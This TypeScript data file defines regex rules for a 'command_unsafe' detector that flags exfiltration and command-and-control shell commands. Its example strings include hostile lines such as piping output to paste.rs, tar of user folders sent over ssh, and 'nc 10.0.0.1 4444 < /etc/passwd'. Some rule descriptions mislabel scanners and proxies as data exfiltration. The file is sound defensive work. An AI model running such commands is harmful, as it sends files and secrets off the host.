// Data: part of the base rule table of the `command_unsafe` detector (`rules.ts` joins the parts).
import type { DocumentedRule } from "../rule-set.js";
import { commandRule as r } from "./command-rule.js";

/** Base `command_unsafe` rules: exfiltration and command-and-control. */
export const BASE_EXFILTRATION_RULES: readonly DocumentedRule[] = [
  // Exfiltration and C2
  r(
    "exfiltration",
    /\b(?:curl|wget)\b[^\n]{0,256}(?:-F\s*["']?\w+=@|-T\s+\S|--upload-file|--data(?:-binary)?\s*["']?@|--post-file)/g,
    "high",
    0.8,
    {
      id: "command_unsafe.exfiltration_curl",
      meaning: "Sends files or data off the host: `curl -s -X POST --data-binary @` and the like.",
      matches: ['EXFIL_URL=$(echo "$OUTPUT" | curl -s -X POST --data-binary @- "https://paste.rs")'],
      ignores: ['["curl", "-F", "file=@/path/to/temp/file.txt", "http://server.url/upload"]'],
    },
  ),
  r(
    "exfiltration",
    /\b(?:tar|zip|gzip)\b[^\n|]{0,256}\|\s*(?:openssl\b[^\n|]{0,256}\|\s*)?(?:ssh|nc|ncat|curl|socat)\b/g,
    "high",
    0.85,
    {
      id: "command_unsafe.exfiltration_tar_ssh",
      meaning:
        "Sends files or data off the host: `tar czpf - /Users/* | openssl des3 -salt -pas…` and the like.",
      matches: [
        "tar czpf - /Users/* | openssl des3 -salt -pass atomic | ssh atomic@target.example.com 'cat > /Users.tar.gz.enc'",
      ],
      ignores: ["tar czf backup.tgz ./src"],
    },
  ),
  r("exfiltration", /\b(?:nc|ncat|netcat)\s+(?:-\w+\s+){0,8}\S+\s+\d+\s*<\s*\S+/g, "high", 0.85, {
    id: "command_unsafe.exfiltration_nc",
    meaning: "Sends files or data off the host: `nc 10.0.0.1 4444 < /etc/passwd` and the like.",
    matches: ["nc 10.0.0.1 4444 < /etc/passwd"],
    ignores: ["nc -l 8080"],
  }),
  r(
    "exfiltration",
    /\b(?:dig|nslookup|host)\s+[^\n]{0,256}\$\((?:cat|base64|whoami|hostname|xxd)|\bsplit\s+-b\s+\d+/g,
    "high",
    0.75,
    {
      id: "command_unsafe.exfiltration_cat_dig",
      meaning: "Sends files or data off the host: `split -b 5000000` and the like.",
      matches: ["cd /tmp/T1030; split -b 5000000 T1030_urandom"],
      ignores: ["dig example.com"],
    },
  ),
  r(
    "exfiltration",
    /\b(?:rclone|megacmd|mega-put)\b|\b(?:transfer\.sh|file\.io|paste\.rs|pastebin\.com|anonfiles|webhook\.site|ngrok\.io|requestbin)\b/gi,
    "high",
    0.8,
    {
      id: "command_unsafe.exfiltration_rclone",
      meaning: "Sends files or data off the host: `rclone` and the like.",
      matches: ["rclone config"],
      ignores: ["ls -la /tmp"],
    },
  ),
  r("exfiltration", /\bnmap\b|\bmasscan\b|\bzmap\b|\bhydra\b|\bnikto\b|\bsqlmap\b/g, "medium", 0.65, {
    id: "command_unsafe.exfiltration_nmap",
    meaning: "Sends files or data off the host: `hydra` and the like.",
    matches: ["hydra-wizard"],
    ignores: ["asnmap -org {{GOOGLE}} -silent"],
  }),
  r(
    "exfiltration",
    /\bfor\s+\w+\s+in\b[^\n]{0,256}(?:seq|\{\d+\.\.\d+\})[^\n]{0,256};\s*do\b[^\n]{0,256}(?:ping|\/dev\/tcp|nc\b)/g,
    "medium",
    0.7,
    {
      id: "command_unsafe.exfiltration_for_seq",
      meaning: "Sends files or data off the host: `for ip in $(seq 1 254); do ping` and the like.",
      matches: [
        'for ip in $(seq 1 254); do ping -c 1 192.168.1.$ip; [ $? -eq 0 ] && echo "192.168.1.$ip UP" || : ; done',
      ],
      ignores: ["for i in $(seq 1 3); do echo $i; done"],
    },
  ),
  r(
    "exfiltration",
    /\btor\b[^\n]{0,256}\b(?:start|enable)\b|\b(?:tor_enable|proxychains)\b|\bnetworksetup\s+-set(?:secure)?webproxy\b/g,
    "medium",
    0.65,
    {
      id: "command_unsafe.exfiltration_start_tor",
      meaning: "Sends files or data off the host: `networksetup -setwebproxy` and the like.",
      matches: ["networksetup -setwebproxy Wi-Fi 127.0.0.1 8080"],
      ignores: ["sfdk emulator start {{name}}"],
    },
  ),
];
